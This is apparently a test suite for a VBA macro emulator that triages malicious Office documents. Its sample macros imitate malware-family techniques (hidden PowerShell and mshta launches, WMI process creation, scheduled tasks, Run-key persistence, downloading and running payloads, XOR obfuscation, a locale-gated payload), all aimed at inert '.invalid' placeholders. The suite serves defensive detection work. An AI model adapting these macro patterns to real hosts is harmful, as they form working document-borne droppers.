"""Programs in the manner of those that malware families carry: what each comes to, with addresses that lead nowhere."""

import pytest

from emotriage.emulation.vba.document import Document, Shape, Sheet
from emotriage.emulation.vba.host import Surroundings
from emotriage.emulation.vba.machine import run
from emotriage.emulation.vba.program import ModuleCode, Program
from emotriage.emulation.vba.source import read_source
from emotriage.emulation.vba.world import WORLDS
from emotriage.model.limits import Budget, Limits

URL = "http://emotriage-inert.invalid/a"
RUN = f"powershell -w hidden emotriage-inert {URL}"
KEYED = "".join(chr(ord(one) ^ (3 + index % 2)) for index, one in enumerate(RUN)).replace('"', '""')


def evaluate(modules, *, around=None, kinds=None):
    budget = Budget(Limits())
    kinds = kinds or {}
    codes = [ModuleCode(name, kinds.get(name, "standard"), read_source(code, budget)) for name, code in modules.items()]
    program = Program(codes, budget)
    names = ("autoopen", "document_open", "workbook_open", "auto_open")
    entries = [n for n, node in enumerate(program.nodes) if node.procedure.name.lower() in names]
    return run(program, entries, around or Surroundings(), budget)


def effects(body, rest="", *, more=None, **how):
    modules = {"Module1": f"Sub AutoOpen()\n{body}\nEnd Sub\n{rest}", **(more or {})}
    return [(one.kind, one.what) for one in evaluate(modules, **how).effects if one.kind not in ("object", "call")]


class Filled(Document):
    """A document with something of everything."""

    def variables(self):
        return {"key": RUN}

    def properties(self):
        return {"comments": RUN, "own": "emotriage"}

    def paragraphs(self):
        return ["first", RUN]

    def comments(self):
        return [RUN]

    def shapes(self):
        return [Shape("Box 1", RUN, "title", "inner"), Shape("Picture 2", RUN, inline=True)]

    def sheets(self):
        cells = {(1, 1): "power", (2, 1): f"shell -w hidden emotriage-inert {URL}", (3, 2): 7.0}
        return [Sheet("Data", "Tabelle1", cells, {"A1": RUN}), Sheet("Other", "", {(1, 1): "else"})]

    def parts(self):
        return [f"<a><b>{RUN}</b></a>"]


@pytest.mark.parametrize(
    "expression",
    [
        'ActiveDocument.Variables("key").Value',
        'ActiveDocument.Variables("key")',
        'ThisDocument.Variables.Item("key").Value',
        "ActiveDocument.Variables(1).Value",
        'ActiveDocument.BuiltInDocumentProperties("Comments")',
        'ThisDocument.BuiltInDocumentProperties("Comments").Value',
        'ActiveWorkbook.BuiltinDocumentProperties.Item("comments").Value',
        'Replace(RUN, "x", "") & Left(ActiveDocument.CustomDocumentProperties("own"), 0)',
        "Replace(ActiveDocument.Paragraphs(2).Range.Text, vbCr, vbNullString)",
        "Split(ActiveDocument.Content.Text, vbCr)(1)",
        "Split(ActiveDocument.Range.Text, vbCr)(1)",
        "ActiveDocument.Range(6, 600).Text",
        "ActiveDocument.Comments(1).Range.Text",
        'ActiveDocument.Shapes("Box 1").AlternativeText',
        "ActiveDocument.Shapes(1).AlternativeText",
        "ActiveDocument.InlineShapes(1).AlternativeText",
        'Worksheets("Data").Range("A1").Value & Sheets(1).Cells(2, 1)',
        '[A1] & Range("A2").Value2',
        'Cells(1, "A").Value & Cells(1, 1).Offset(1, 0).Value',
        'Tabelle1.Range("A1") & ActiveSheet.Cells(2, 1).Text',
        'Application.Sheets("Data").Range("$A$1").Formula & ThisWorkbook.Sheets("Data").[A2]',
        'Range("Data!A1") & Range("A1:B2").Cells(3).Value',
        'Sheets("Data").Range("A1").Comment.Text',
        'Sheets("Data").Range("A1").NoteText',
        "Mid(ActiveDocument.CustomXMLParts(1).XML, 7, Len(ActiveDocument.CustomXMLParts(1).XML) - 14)",
    ],
)
def test_v14_texts_that_the_document_holds(expression):
    text = f'Public Const RUN = "{RUN}"\nSub AutoOpen()\nShell {expression}, 0\nEnd Sub\n'
    kinds = {"Tabelle1": "document"}
    modules = {"Module1": text, "Tabelle1": "Sub None()\nEnd Sub\n"}
    found = evaluate(modules, around=Surroundings(document=Filled()), kinds=kinds)
    assert [one.what for one in found.effects if one.kind == "start"] == [RUN]


def test_cells_in_rows_until_an_empty_one():
    body = """For Each r In Sheets("Data").Rows
 t = Sheets("Data").Cells(r.Row, 1).Value
 If t = "" Then Exit For
 s = s & t
Next
Shell s"""
    assert effects(body, around=Surroundings(document=Filled())) == [("start", RUN)]


def test_what_a_macro_puts_into_a_cell_or_variable_it_reads_again():
    body = """ActiveDocument.Variables.Add "fresh", "emotriage-"
ActiveDocument.Variables("later").Value = "inert"
Cells(9, 9).Value = ".exe"
Shell ActiveDocument.Variables("fresh") & ActiveDocument.Variables("later") & Cells(9, 9)"""
    assert effects(body) == [("start", "emotriage-inert.exe")]


FAMILIES = {
    "numbers of enumerations, a form that is shown": (
        {
            "ThisDocument": "Private Sub Document_Open()\n UserForm1.Show\nEnd Sub\n",
            "UserForm1": "Private Sub UserForm_Initialize()\n Shell Label1.Caption & Chr(wdKeyA) & TextBox1\nEnd Sub",
        },
        {"ThisDocument": "document", "UserForm1": "form"},
        {"userform1.label1": {"caption": "emotriage-inert "}, "userform1.textbox1": {"value": "x", "text": "x"}},
        [("start", "emotriage-inert Ax")],
    ),
    "a hidden process of WMI whose set-up object is made by name": (
        {
            "Module1": f"""Sub AutoOpen()
 Set a = GetObject("winm" & "gmts:Win32_" & "ProcessStartup")
 a.ShowWindow = False
 GetObject(Replace("win!mgmts:Win32_!Process", "!", "")).Create "{RUN}", Null, a, p
End Sub
"""
        },
        {},
        {},
        [("start", RUN)],
    ),
    "parts between junk, split and joined": (
        {
            "Module1": f"""Function Clean(t)
 Clean = Join(Split(t, "xQzQ"), "")
End Function
Sub AutoOpen()
 Set o = CreateObject(Clean("wxQzQinmgmts:WixQzQn32_PrxQzQocess"))
 o.Create Clean("{RUN[:8]}xQzQ{RUN[8:]}")
End Sub
"""
        },
        {},
        {},
        [("start", RUN)],
    ),
    "a class with a property, and a method that starts": (
        {
            "Module1": f'Sub AutoOpen()\n Dim c As New Work\n c.Line = "{RUN}"\n c.Go\nEnd Sub\n',
            "Work": "Private kept\nPublic Property Let Line(v)\n kept = v\nEnd Property\n"
            "Public Property Get Line()\n Line = kept\nEnd Property\nSub Go()\n Shell Me.Line\nEnd Sub\n"
            'Private Sub Class_Initialize()\n kept = "x"\nEnd Sub\n',
        },
        {"Work": "class"},
        {},
        [("start", RUN)],
    ),
    "a template on a server, the file beside it, a copy": (
        {
            "Module1": f'Sub AutoOpen()\n ActiveDocument.AttachedTemplate = "{URL}"\n'
            ' FileCopy "C:\\a", Environ$("temp") & "\\b.exe"\n Name "c" As "d.exe"\nEnd Sub\n'
        },
        {},
        {},
        [("fetch", URL), ("write", "%temp%\\b.exe"), ("write", "d.exe")],
    ),
    "a scheduled task": (
        {
            "Module1": f"""Sub AutoOpen()
 Set s = CreateObject("Schedule.Service")
 s.Connect
 Set d = s.NewTask(0)
 Set a = d.Actions.Create(0)
 a.Path = "mshta.exe"
 a.Arguments = "{URL}"
 s.GetFolder("\\").RegisterTaskDefinition "emotriage", d, 6, , , 3
End Sub
"""
        },
        {},
        {},
        [("start", f"mshta.exe {URL}")],
    ),
    "a run key": (
        {
            "Module1": 'Sub AutoOpen()\n CreateObject("WScript.Shell").RegWrite '
            '"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x", "emotriage-inert", "REG_SZ"\nEnd Sub\n'
        },
        {},
        {},
        [("registry", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x")],
    ),
    "bytes of a node saved by a stream": (
        {
            "Module1": """Sub AutoOpen()
 Set n = CreateObject("MSXML2.DOMDocument").createElement("x")
 n.DataType = "bin.hex"
 n.Text = "4D5A656D6F"
 Set s = CreateObject("ADODB.Stream")
 s.Type = 1: s.Open
 s.Write n.nodeTypedValue
 s.SaveToFile "C:\\a.exe", 2
 CreateObject("Shell.Application").Open "C:\\a.exe"
End Sub
"""
        },
        {},
        {},
        [("write", "C:\\a.exe"), ("start", "C:\\a.exe")],
    ),
    "declared functions under other names": (
        {
            "Module1": f"""#If VBA7 Then
Private Declare PtrSafe Function a1 Lib "shell32" Alias "ShellExecuteA" (ByVal h As LongPtr) As LongPtr
Private Declare PtrSafe Function a2 Lib "kernel32" Alias "WinExec" (ByVal c As String, ByVal s As Long) As Long
Private Declare PtrSafe Function a3 Lib "kernel32" Alias "CreateProcessA" (ByVal c As String) As Long
#Else
Private Declare Function a2 Lib "kernel32" Alias "WinExec" (ByVal c As String, ByVal s As Long) As Long
#End If
Sub AutoOpen()
 a1 0, "open", "mshta", "{URL}", "", 0
 x = a2("emotriage-inert 2", 0)
 Call a3(vbNullString, "emotriage-inert 3")
End Sub
"""
        },
        {},
        {},
        [("start", f"mshta {URL}"), ("start", "emotriage-inert 2"), ("start", "emotriage-inert 3")],
    ),
    "machine code put into memory": (
        {
            "Module1": """Private Declare PtrSafe Function al Lib "kernel32" Alias "VirtualAlloc" _
 (ByVal a As Long) As LongPtr
Private Declare PtrSafe Function mv Lib "kernel32" Alias "RtlMoveMemory" (ByVal a As LongPtr) As LongPtr
Sub AutoOpen()
 b = Array(77, 90, 144, 0)
 p = al(0, UBound(b), &H1000, &H40)
 For i = LBound(b) To UBound(b)
  v = b(i)
  r = mv(p + i, v, 1)
 Next
End Sub
"""
        },
        {},
        {},
        [("memory", "rtlmovememory")],
    ),
    "a macro of Excel 4 in a string": (
        {"Module1": f'Sub Auto_Open()\n ExecuteExcel4Macro "EXEC(""{RUN}"")"\nEnd Sub\n'},
        {},
        {},
        [("start", RUN)],
    ),
    "script handed to an engine": (
        {
            "Module1": 'Sub AutoOpen()\n With CreateObject("ScriptControl")\n  .Language = "JScript"\n'
            '  .ExecuteStatement "emotriage" & "_inert()"\n End With\n'
            ' CreateObject("htmlfile").parentWindow.execScript "emotriage_other()", "JScript"\nEnd Sub\n'
        },
        {},
        {},
        [("script", "emotriage_inert()"), ("script", "emotriage_other()")],
    ),
    "put off, and called by a computed name": (
        {
            "Module1": f"""Sub AutoOpen()
 Application.OnTime Now + TimeValue("00:00:05"), "Mod" & "ule1.Later"
 Application.Run "Tw" & "o", "{RUN}"
End Sub
Sub Later()
 Shell "emotriage-inert later"
End Sub
Sub Two(ByVal what As String)
 CallByName CreateObject("WScript.Shell"), "R" & "un", 1, what, 0
End Sub
"""
        },
        {},
        {},
        [("start", RUN), ("start", "emotriage-inert later")],
    ),
    "arguments by name and by reference": (
        {
            "Module1": f"""Sub AutoOpen()
 Dim s As String
 Fill part:="{RUN[:5]}", into:=t
 Take s
 Shell WindowStyle:=0, PathName:=s
End Sub
Sub Take(ByRef x As String)
 x = Fold("{RUN[:5]}", "{RUN[5:9]}", "{RUN[9:]}")
End Sub
Function Fold(ParamArray parts())
 For Each p In parts
  Fold = Fold & p
 Next
End Function
Sub Fill(Optional ByVal part = "none", Optional into)
End Sub
"""
        },
        {},
        {},
        [("start", RUN)],
    ),
    "a record, a static counter, a subroutine": (
        {
            "Module1": """Private Type Pair
 a As String
 b() As Byte
End Type
Private Enum Codes
 e0 = 101
 e1
End Enum
Function Turn() As String
 Static n As Integer
 n = n + 1
 Turn = Chr(96 + n)
End Function
Sub AutoOpen()
 Dim p As Pair
 p.a = "emotriage-inert "
 GoSub more
 Shell p.a & Turn & Turn() & Chr(e1)
 Exit Sub
more:
 p.a = p.a & "s"
 Return
End Sub
"""
        },
        {},
        {},
        [("start", "emotriage-inert sabf")],
    ),
    "where an error leads": (
        {
            "Module1": f"""Sub AutoOpen()
 On Error GoTo trap
 x = 1 / 0
 Exit Sub
trap:
 Shell "{RUN}"
End Sub
"""
        },
        {},
        {},
        [("start", RUN)],
    ),
    "letters changed in place, and a pattern": (
        {
            "Module1": """Sub AutoOpen()
 s = "e...riage-inert"
 Mid(s, 2, 3) = "mot"
 Set r = CreateObject("VBScript.RegExp")
 r.Pattern = "[0-9]": r.Global = True
 Shell s & r.Replace(" 1a2b", "")
End Sub
"""
        },
        {},
        {},
        [("start", "emotriage-inert ab")],
    ),
    "a file written byte by byte": (
        {
            "Module1": """Sub AutoOpen()
 Dim b() As Byte, h As String
 h = "4d5a656d6f"
 ReDim b(Len(h) / 2 - 1)
 For i = 1 To Len(h) Step 2
  b((i - 1) / 2) = Val("&h" & Mid(h, i, 2))
 Next
 f = FreeFile
 Open Environ("APPDATA") & "\\x.exe" For Binary Access Write As #f
 Put #f, , b
 Close #f
 Shell "cmd /c " & Chr(34) & Environ("APPDATA") & "\\x.exe" & Chr(34)
End Sub
"""
        },
        {},
        {},
        [("write", "%APPDATA%\\x.exe"), ("start", 'cmd /c "%APPDATA%\\x.exe"')],
    ),
    "a collection and a dictionary": (
        {
            "Module1": """Sub AutoOpen()
 Dim c As New Collection, d
 c.Add "emo": c.Add "triage", "k"
 Set d = CreateObject("Scripting.Dictionary")
 d.Add 1, "-in": d("two") = "ert"
 If d.Exists("two") Then Shell c(1) & c.Item("k") & d(1) & d.Item("two") & Join(d.Keys, "")
End Sub
"""
        },
        {},
        {},
        [("start", "emotriage-inert1two")],
    ),
    "a download, kept and run": (
        {
            "Module1": f"""Sub AutoOpen()
 Dim x As New WinHttpRequest
 x.Open "GET", StrReverse("{URL[::-1]}"), False
 x.Send
 Set s = CreateObject("Adodb.Stream")
 With s
  .Type = 1: .Open: .Write x.responseBody
  .SaveToFile Environ("tmp") & "\\a.dll", 2
 End With
 Shell "rundll32 " & Environ("tmp") & "\\a.dll,DllRegisterServer"
End Sub
"""
        },
        {},
        {},
        [("fetch", URL), ("write", "%tmp%\\a.dll"), ("start", "rundll32 %tmp%\\a.dll,DllRegisterServer")],
    ),
    "a job of BITS and an add-in opened from a server": (
        {
            "Module1": 'Sub AutoOpen()\n Set j = CreateObject("Microsoft.BITS").CreateJob("a")\n'
            f' j.AddFile "{URL}", "C:\\a"\n'
            f' Workbooks.Open Filename:="{URL}b"\n ActiveWorkbook.FollowHyperlink Address:="{URL}c"\nEnd Sub\n'
        },
        {},
        {},
        [("fetch", URL), ("fetch", f"{URL}b"), ("fetch", f"{URL}c")],
    ),
    "a method of WMI with its parameters in an object": (
        {
            "Module1": f"""Sub AutoOpen()
 Set s = CreateObject("WbemScripting.SWbemLocator").ConnectServer(".", "root\\cimv2")
 Set c = s.Get("Win32_Process")
 Set p = c.Methods_("Create").InParameters.SpawnInstance_
 p.CommandLine = "{RUN}"
 s.ExecMethod "Win32_Process", "Create", p
End Sub
"""
        },
        {},
        {},
        [("start", RUN)],
    ),
    "windows of the shell by their class": (
        {
            "Module1": f"""Sub AutoOpen()
 Set a = GetObject("new:{{9BA05972-F6A8-11CF-A442-00A0C90A8F39}}")
 a.Item().Document.Application.ShellExecute "mshta", "{URL}", "C:\\", Null, 0
 GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8").Run "{RUN}"
End Sub
"""
        },
        {},
        {},
        [("start", f"mshta {URL}"), ("start", RUN)],
    ),
    "a key over bytes": (
        {
            "Module1": f"""Function Undo(ByVal t As String, ByVal key As String) As String
 Dim b() As Byte, k() As Byte, i As Long
 b = StrConv(t, vbFromUnicode): k = StrConv(key, vbFromUnicode)
 For i = 0 To UBound(b)
  b(i) = b(i) Xor k(i Mod (UBound(k) + 1))
 Next i
 Undo = StrConv(b, vbUnicode)
End Function
Sub AutoOpen()
 Shell Undo("{KEYED}", Chr(3) & Chr(4))
End Sub
"""
        },
        {},
        {},
        [("start", RUN)],
    ),
    "a text as its memory": (
        {
            "Module1": """Sub AutoOpen()
 Dim b() As Byte
 b = "emotriage-inert"
 For i = 0 To UBound(b) Step 2
  s = s & Chr(b(i))
 Next
 Shell s & UBound(b)
End Sub
"""
        },
        {},
        {},
        [("start", "emotriage-inert29")],
    ),
}


@pytest.mark.parametrize("name", FAMILIES)
def test_families(name):
    modules, kinds, controls, expected = FAMILIES[name]
    done = evaluate(modules, kinds=kinds, around=Surroundings(controls))
    assert [(one.kind, one.what) for one in done.effects if one.kind not in ("object", "call")] == expected
    assert done.complete


def test_what_is_written_is_kept_whole():
    found = {one.kind: one.detail for one in evaluate(FAMILIES["a file written byte by byte"][0]).effects}
    assert found["write"] == "MZemo"
    found = {one.kind: one.detail for one in evaluate(FAMILIES["bytes of a node saved by a stream"][0]).effects}
    assert found["write"] == "MZemo"
    found = {one.kind: one.detail for one in evaluate(FAMILIES["machine code put into memory"][0]).effects}
    assert found["memory"] == "MZ\x90\0"


GATED = """Function Key()
 Key = Application.International(xlCountrySetting)
End Function
Sub Auto_Open()
 For Each n In Split("{codes}", ",")
  s = s & Chr(n Xor Key)
 Next
 If Key = 81 And Left(Format(0, "currency"), 1) = Chr(92) Then Shell s
End Sub
"""


def test_a_country_is_asked_for():
    code = GATED.format(codes=",".join(str(ord(one) ^ 81) for one in RUN))
    unknown = evaluate({"Module1": code})
    assert unknown.asked
    assert RUN not in [one.what for one in unknown.effects]
    there = evaluate({"Module1": code}, around=Surroundings(world=WORLDS[0]))
    assert [one.what for one in there.effects] == [RUN]
    assert [one.what for one in evaluate({"Module1": code}, around=Surroundings(world=WORLDS[1])).effects] == []


def test_a_part_that_is_not_known_is_said():
    (one,) = evaluate({"Module1": 'Sub AutoOpen()\n Shell "emotriage-inert " & Now\nEnd Sub'}).effects
    assert (one.what, one.partly) == ("emotriage-inert ", True)
    (one,) = evaluate({"Module1": 'Sub AutoOpen()\n Shell Trim("emotriage-inert " & Now)\nEnd Sub'}).effects
    assert one.partly
    (one,) = evaluate({"Module1": 'Sub AutoOpen()\n Shell "emotriage-inert"\nEnd Sub'}).effects
    assert not one.partly


@pytest.mark.parametrize(
    "junk",
    [
        "For i = 1 To 100000000\n x = x + 1\nNext",
        "Do While n < 100000000\n n = n + 1\nLoop",
        "Do\n q = Sin(q + 1)\nLoop Until q > 2",
        "For i = 1 To 90000\n For j = 1 To 90000\n  y = Cos(j)\n Next\nNext",
        "While 1\n Noise\nWend",
        "again:\nz = Chr(65)\nGoTo again",
    ],
)
def test_what_stands_behind_a_loop_that_wastes_time_is_reached(junk):
    again = junk.replace("again", "other")
    code = f'Sub AutoOpen()\n{junk}\n{again}\nShell "{RUN}"\nEnd Sub\nSub Noise()\n a = Rnd\nEnd Sub'
    done = evaluate({"Module1": code})
    assert [one.what for one in done.effects] == [RUN]
